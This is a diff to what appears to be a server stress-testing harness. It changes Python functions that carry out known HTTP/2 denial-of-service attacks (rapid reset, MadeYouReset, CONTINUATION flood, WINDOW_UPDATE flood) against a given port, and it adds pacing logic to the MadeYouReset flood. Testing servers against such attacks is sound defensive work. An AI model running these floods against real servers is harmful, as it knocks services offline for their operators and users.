@@ -283,7 +283,7 @@ def frames(port, until, flood):
     while time.monotonic() < until or not cut:
         with h2.Client(port, timeout=10) as client:
             client.sync()
-            for piece in flood():
+            for piece in flood(client):
                 try:
                     client.socket.sendall(piece)
                 except OSError:
@@ -302,17 +302,22 @@ def streams():
 
 @attack("HTTP/2 rapid reset")
 def _(port, until):
-    return frames(port, until, lambda: (h2.get(n, b"/async") + h2.rst_stream(n) for n in streams()))
+    return frames(port, until, lambda _: (h2.get(n, b"/async") + h2.rst_stream(n) for n in streams()))
 
 
 @attack("HTTP/2 MadeYouReset")
 def _(port, until):
-    return frames(port, until, lambda: (h2.post(n, (b"content-length", b"1")) + h2.data(n, b"xy") for n in streams()))
+    def flood(client):
+        for number in streams():
+            yield h2.post(number, (b"content-length", b"1")) + h2.data(number, b"xy")
+            if number % 50 == 49:  # more at a time than are allowed would be another error
+                client.until(lambda n=number: client.stream(n).error is not None or client.error is not None)
+    return frames(port, until, flood)
 
 
 @attack("HTTP/2 CONTINUATION flood")
 def _(port, until):
-    def flood():
+    def flood(_):
         yield h2.headers(1, h2.request(), flags=0)
         while True:
             yield h2.frame(h2.CONTINUATION, 0, 1, h2.literal(b"x", b"y" * 1000))
@@ -321,7 +326,7 @@ def _(port, until):
 
 @attack("HTTP/2 WINDOW_UPDATE flood")
 def _(port, until):
-    return frames(port, until, lambda: (h2.window_update(0, 1) * 10 for _ in streams()))
+    return frames(port, until, lambda _: (h2.window_update(0, 1) * 10 for _ in streams()))
 
 
 # ---- what becomes of it ----
